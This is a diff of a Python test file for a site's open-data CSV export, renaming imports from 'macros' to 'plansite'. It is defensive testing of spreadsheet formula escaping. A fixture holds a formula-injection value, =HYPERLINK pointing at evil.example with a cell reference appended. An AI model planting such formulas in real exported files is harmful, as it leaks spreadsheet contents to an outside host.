@@ -11,8 +11,8 @@ from types import SimpleNamespace
 import pytest
 
 from conftest import FIXTURE
-from macros.read.datasets import load_site_data
-from macros.outputs.open_data import dataset_csv, spreadsheet_safe, write_open_data
+from plansite.read.datasets import load_site_data
+from plansite.outputs.open_data import dataset_csv, spreadsheet_safe, write_open_data
 
 HOSTILE = {
     "formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
@@ -100,7 +100,7 @@ def test_real_data_with_a_formula_in_it(tmp_path):
 
 
 def test_the_open_data_page_says_so(site_data):
-    from macros.render.renderer import Renderer
+    from plansite.render.renderer import Renderer
 
     html = str(Renderer(site_data).open_data())
     assert ("<p>So that spreadsheet programs show every CSV cell as text and never run it as a formula, a cell "
